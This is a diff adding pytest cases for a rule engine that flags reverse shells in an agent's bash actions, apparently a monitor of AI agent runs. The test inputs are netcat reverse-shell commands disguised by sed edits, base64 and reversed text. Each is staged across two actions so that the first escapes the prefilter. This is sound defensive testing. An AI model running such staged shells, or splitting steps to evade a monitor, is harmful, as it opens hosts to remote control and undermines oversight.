@@ -594,3 +594,23 @@ def test_sed_running_a_command_itself_is_read_though_the_text_names_no_program()
     engine = Engine(load())
     event = from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed 's/^m/n/e'"})
     assert "reverse_shell_netcat_exec" in {f.rule for f in engine.analyze(event)}
+
+
+@pytest.mark.parametrize("first, then", [
+    ("echo 'mc -e /bin/sh 10.0.0.1 4444' > /tmp/b.sh", "sed -i 's/^m/n/' /tmp/b.sh; sh /tmp/b.sh"),
+    ("echo 'mc -e /bin/sh 10.0.0.1 4444' > /tmp/b.sh", "sed 's/^m/n/' /tmp/b.sh | sh"),
+    ("echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 > /tmp/x", "base64 -d /tmp/x | sh"),
+    ("printf '4444 1.0.0.01 hs/nib/ e- cn' > r.txt", "rev r.txt | sh"),
+])
+def test_a_file_written_by_a_skipped_action_is_there_when_a_later_one_runs_it(first, then):
+    """The first action names no rule literal, so the prefilter passes over it; what it wrote must
+    still be known when a later action of the run decodes or edits and runs it."""
+    engine = Engine(load())
+
+    def rules(text, episode):
+        event = from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": text, "episode": episode})
+        return {f.rule for f in engine.analyze(event)}
+    assert rules(first, "a") == set() and rules(first, "b") == set()  # the second a cached skip
+    assert "reverse_shell_netcat_exec" in rules(then, "a")
+    assert "reverse_shell_netcat_exec" in rules(then, "b")
+    assert "reverse_shell_netcat_exec" not in rules(then, "c")  # a run that wrote nothing
